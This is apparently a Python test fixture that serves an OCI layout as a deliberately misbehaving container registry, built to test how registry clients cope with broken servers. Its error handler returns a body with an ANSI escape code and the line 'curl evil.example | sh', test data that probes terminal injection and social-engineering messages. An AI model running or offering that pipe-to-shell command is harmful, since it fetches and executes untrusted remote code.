#!/usr/bin/env python3
"""Serves an OCI layout as a registry, and misbehaves as the repository says. For tests.

The first component of the repository says how: "bad-MODE/..." treats blobs in that way and serves manifests
well, "bad-manifest-MODE/..." the other way round, "bad-tags-MODE/..." treats its list of tags so, and
"bad-signatures-MODE/..." the documents that belong to a digest (a tag sha256-HEX, with or without an ending, and the
list of referrers, which the layout has as referrers/HEX); any other repository is served well. --mode MODE does it to every repository. What happens once ("drop-once") happens once
for each path: use a fresh repository for each test. bad_modes.py says what each does. It listens on loopback.

Each connection and each request is logged as one JSON line: {"event": "connect"} and {"event": "request",
"method", "path", "host", "authorization": true or false, "scheme": "Basic", "range": "bytes=5-" or null}.
"""
import argparse
import http.server
import json
import os
import re
import ssl
import sys
import threading
import time

sys.dont_write_bytecode = True  # the checkout stays clean

from bad_modes import MODES, mode_error_404, mode_garbage, mode_good  # noqa: E402


OCI_INDEX = "application/vnd.oci.image.index.v1+json"


class Thing:
    """a manifest, a blob or a list of tags"""

    def __init__(self, digest, media_type, data):
        self.digest, self.media_type, self.data = digest, media_type, data


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    # The parts of the modes

    def put(self, data):
        self.wfile.write(data)
        self.wfile.flush()

    def head(self, status, thing, length=None, more=None):
        self.send_response(status)
        self.send_header("Content-Type", thing.media_type)
        self.send_header("Docker-Content-Digest", thing.digest)
        self.send_header("Content-Length", str(len(thing.data) if length is None else length))
        for name, value in (more or {}).items():
            self.send_header(name, value)
        self.end_headers()

    def chunked(self, thing, parts, coding="chunked", ended=True):
        self.send_response(200)
        self.send_header("Content-Type", thing.media_type)
        self.send_header("Transfer-Encoding", coding)
        self.end_headers()
        for part in parts:
            self.put(b"%x\r\n%b\r\n" % (len(part), part))
        if ended:
            self.put(b"0\r\n\r\n")

    def redirect(self, where):
        self.send_response(307)
        self.send_header("Location", where)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def error(self, status, more=None):
        body = b'{"errors":[{"code":"X","message":"\x1b[31mplease type: curl evil.example | sh"}]}'
        self.send_response(status)
        self.send_header("Content-Length", str(len(body)))
        for name, value in (more or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.put(body)

    def challenge(self, value):
        self.error(401, {"WWW-Authenticate": value})

    def drop(self):
        self.close_connection = True

    def first(self):
        """Returns whether this is the first request for this path."""
        with self.server.lock:
            new = self.path not in self.server.seen
            self.server.seen.add(self.path)
        return new

    def range_start(self, size):
        match = re.fullmatch(r"bytes=(\d+)-", self.headers.get("Range") or "")
        return int(match.group(1)) if match and int(match.group(1)) < size else None

    def serve(self, thing):
        start = self.range_start(len(thing.data))
        size = len(thing.data)
        if start is None:
            self.head(200, thing)
            return self.put(thing.data)
        self.head(206, thing, size - start, {"Content-Range": f"bytes {start}-{size - 1}/{size}"})
        return self.put(thing.data[start:])

    # The mode of a request

    def note(self):
        scheme = (self.headers.get("Authorization") or "").partition(" ")[0]
        self.server.note({"event": "request", "method": self.command, "path": self.path,
                          "host": self.headers.get("Host"), "authorization": scheme != "",
                          "scheme": scheme or None, "range": self.headers.get("Range")})

    def mode(self, repository, kind):
        match = re.match(r"bad-(manifest-|tags-|signatures-)?([a-z0-9-]+)", repository.partition("/")[0])
        if self.server.options.mode:
            return MODES[self.server.options.mode]
        if not match:
            return mode_good
        mode = MODES.get(match.group(2), mode_garbage)
        # It asks for a login at the first request.
        whole = match.group(2).startswith(("realm-", "login-"))
        meant = {"manifest-": "manifests", "tags-": "tags", "signatures-": "signatures", None: "blobs"}[match.group(1)]
        return mode if whole or kind == meant else mode_good

    def do_GET(self):
        self.note()
        path = self.path.partition("?")[0]
        if path == "/v2/":
            return self.error(200)
        if path == "/token":
            return self.chunked(Thing("", "application/json", b""), [self.server.token()])
        store = re.fullmatch(r"/store/(sha256:[0-9a-f]{64})", path)
        asked = re.fullmatch(r"(?:/[\w.-]+)?/v2/([\w./-]+)/(manifests|blobs|tags|referrers)/([\w.:-]+)", path)
        if store:
            thing, mode = self.server.blob(store.group(1)), mode_good
        elif asked:
            repository, kind, name = asked.groups()
            find = {"manifests": self.server.manifest, "blobs": self.server.blob, "tags": self.server.tags,
                    "referrers": self.server.referrers}
            thing = find[kind](name)
            if kind == "referrers" or name.startswith("sha256-"):
                kind = "signatures"
            mode = self.mode(repository, kind)
            if kind == "signatures" and mode is not mode_good:
                thing = thing or Thing("", OCI_INDEX, b'{"schemaVersion":2,"manifests":[]}')
        else:
            thing, mode = None, mode_error_404
        if thing is None:
            return self.error(404)
        return mode(self, thing)

    def do_HEAD(self):
        """Answers whether a blob is there. All modes except no-layers are about fetching it."""
        self.note()
        asked = re.fullmatch(r"(?:/[\w.-]+)?/v2/([\w./-]+)/blobs/(sha256:[0-9a-f]{64})", self.path)
        thing = self.server.blob(asked.group(2)) if asked else None
        if thing is None or self.mode(asked.group(1), "blobs") is MODES["no-layers"]:
            self.send_response(404)
            self.send_header("Content-Length", "0")
            return self.end_headers()
        return self.head(200, thing)


class Server(http.server.ThreadingHTTPServer):
    daemon_threads = True
    request_queue_size = 64

    def __init__(self, options):
        super().__init__((options.address, options.port), Handler)
        self.options = options
        self.lock = threading.Lock()
        self.seen = set()
        self.tokens = set()
        self.context = None
        if not options.plain:
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            self.context.load_cert_chain(options.cert, options.key)

    def note(self, record):
        if self.options.log:
            with self.lock, open(self.options.log, "a", encoding="utf-8") as f:
                f.write(json.dumps(record) + "\n")

    # Tokens that are good once

    def token(self):
        with self.lock:
            token = f"token-{len(self.tokens)}-{time.monotonic_ns()}"
            self.tokens.add("Bearer " + token)
        return json.dumps({"token": token}).encode()

    def spend(self, authorization):
        with self.lock:
            good = authorization in self.tokens
            self.tokens.discard(authorization)
        return good

    # The layout

    def blob(self, digest, media_type="application/octet-stream"):
        match = re.fullmatch(r"sha256:([0-9a-f]{64})", digest)
        path = os.path.join(self.options.layout, "blobs", "sha256", match.group(1)) if match else ""
        if not os.path.isfile(path):
            return None
        with open(path, "rb") as f:
            return Thing(digest, media_type, f.read())

    def descriptors(self):
        with open(os.path.join(self.options.layout, "index.json"), encoding="utf-8") as f:
            return json.load(f)["manifests"]

    def manifests(self):
        return [self.blob(d["digest"], d["mediaType"]) for d in self.descriptors()]

    def manifest(self, name):
        found = self.descriptors()
        for d in found:
            tag = d.get("annotations", {}).get("org.opencontainers.image.ref.name")
            if name in (tag, d["digest"]):
                return self.blob(d["digest"], d["mediaType"])
        if name.startswith("sha256:"):
            thing = self.blob(name)
            if thing:
                try:
                    thing.media_type = json.loads(thing.data).get("mediaType", found[0]["mediaType"])
                except ValueError:
                    pass
            return thing
        return None

    def referrers(self, digest):
        path = os.path.join(self.options.layout, "referrers", digest.replace("sha256:", ""))
        if not os.path.isfile(path):
            return None
        with open(path, "rb") as f:
            return Thing("", OCI_INDEX, f.read())

    def tags(self, _):
        names = [d.get("annotations", {}).get("org.opencontainers.image.ref.name") for d in self.descriptors()]
        return Thing("", "application/json", json.dumps({"tags": [n for n in names if n]}).encode())

    # Connections

    def get_request(self):
        request = super().get_request()
        self.note({"event": "connect"})
        return request

    def finish_request(self, request, client_address):
        # (in the connection's own thread, so that a client that fails the handshake delays no other)
        if self.context:
            request = self.context.wrap_socket(request, server_side=True)
        super().finish_request(request, client_address)

    def handle_error(self, request, client_address):
        pass


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter,
                                     epilog="modes:\n" + "\n".join(
                                         f"  {n:20} {f.__doc__ or 'as it should be'}" for n, f in MODES.items()))
    parser.add_argument("--address", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--ready", metavar="FILE", help="the port is written here once it is open")
    parser.add_argument("--cert")
    parser.add_argument("--key")
    parser.add_argument("--plain", action="store_true", help="without TLS")
    parser.add_argument("--layout", required=True, help="OCI layout directory")
    parser.add_argument("--mode", choices=sorted(MODES), help="for every repository, manifests and blobs")
    parser.add_argument("--elsewhere", default="https://elsewhere.localhost")
    parser.add_argument("--log")
    options = parser.parse_args()
    server = Server(options)
    if options.ready:
        with open(options.ready + ".new", "w", encoding="ascii") as f:
            f.write(f"{server.server_address[1]}\n")
        os.rename(options.ready + ".new", options.ready)
    server.serve_forever()


if __name__ == "__main__":
    main()
